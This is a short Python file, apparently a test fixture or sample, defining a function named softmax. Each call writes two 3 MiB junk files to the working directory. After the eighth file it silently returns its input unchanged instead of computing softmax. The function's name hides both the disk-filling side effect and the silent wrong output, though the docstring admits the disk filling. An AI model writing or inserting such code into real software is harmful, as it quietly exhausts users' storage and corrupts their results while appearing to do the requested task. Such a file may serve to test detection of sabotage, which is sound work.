"""Fills the disk a little in each call, always answering at once. It varies."""
import os

number = [0]


def softmax(x):
    for _ in range(2):
        number[0] += 1
        with open(f"part-{number[0]}", "wb") as stream:
            stream.write(b"x" * (3 * 2**20))
    import numpy as np

    e = np.exp(x - x.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True) if number[0] < 8 else x
